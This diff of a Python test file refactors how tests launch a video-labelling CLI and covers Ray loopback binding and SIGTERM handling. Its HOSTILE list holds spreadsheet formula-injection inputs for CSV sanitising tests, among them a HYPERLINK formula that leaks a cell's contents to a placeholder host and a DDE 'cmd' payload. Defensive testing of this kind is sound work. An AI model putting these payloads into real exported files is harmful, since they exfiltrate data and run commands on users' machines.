@@ -26,21 +26,21 @@ from core.csv_table import csv_text, plain_cell, safe_cell
 from core.taxonomy import MA52, Taxonomy, TaxonomyError
 from mmn.checkpoint import CheckpointError, load_official, save_checkpoint
 from pipelines.engines.ray import ray_data_installed
-from tests.conftest import GOLDEN_DIR, ROOT, VIDEOS_DIR
+from tests.cli import run_cli, start_cli
+from tests.data import GOLDEN_WEIGHTS, ROOT, VIDEOS_DIR, shared
 from tests.listeners import ListeningSockets
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tTAB", "=1+1"]
 
 
 def _cli(module: str, *args, env=None, timeout=120) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", module, *map(str, args)], cwd=ROOT, capture_output=True, text=True,
-                          timeout=timeout, env=env)
+    return run_cli(module, *args, env=env, timeout=timeout)
 
 
 def _project_checkpoint(tmp_path: Path, edit=None, names=None) -> Path:
     """The golden weights as a project checkpoint whose metadata ``edit`` (a function of the
     metadata dict) then changes; ``names`` replaces the 52 class names."""
-    model = load_official(GOLDEN_DIR / "weights.pt")
+    model = load_official(shared(GOLDEN_WEIGHTS))
     taxonomy = MA52 if names is None else Taxonomy.from_class_names(names, "hostile")
     path = save_checkpoint(tmp_path / "project.pt", model, taxonomy=taxonomy, layout=model.meta.layout,
                            modality="joint")
@@ -229,9 +229,8 @@ def test_cli_started_ray_listens_on_loopback_only(tmp_path):
     """As a user runs it: no RAY_* variable, the CLI imports what it imports; every listener of
     every Ray process is on 127.0.0.0/8 or ::1."""
     out = tmp_path / "out"
-    proc = subprocess.Popen([sys.executable, "-m", "pipelines.video_to_labels", str(VIDEOS_DIR / "0019_02_0078.mp4"),
-                             "--out", str(out), "--engine", "ray"], cwd=ROOT, env=_user_env(),
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    proc = start_cli("pipelines.video_to_labels", VIDEOS_DIR / "0019_02_0078.mp4", "--out", out, "--engine", "ray",
+                     env=_user_env())
     with ListeningSockets(proc.pid) as sockets:
         _, stderr = proc.communicate(timeout=540)
     names = {name for name, _, _ in sockets.seen}
@@ -248,8 +247,7 @@ def test_sigterm_ends_a_run_like_ctrl_c(tmp_path):
     for clip in sorted(VIDEOS_DIR.glob("*.mp4")):
         shutil.copy(clip, src / clip.name)
     out = tmp_path / "out"
-    proc = subprocess.Popen([sys.executable, "-m", "pipelines.video_to_labels", str(src), "--out", str(out)],
-                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    proc = start_cli("pipelines.video_to_labels", src, "--out", out)
     try:
         deadline = time.monotonic() + 300
         while not list(out.glob("*.labels.json")) and time.monotonic() < deadline and proc.poll() is None:
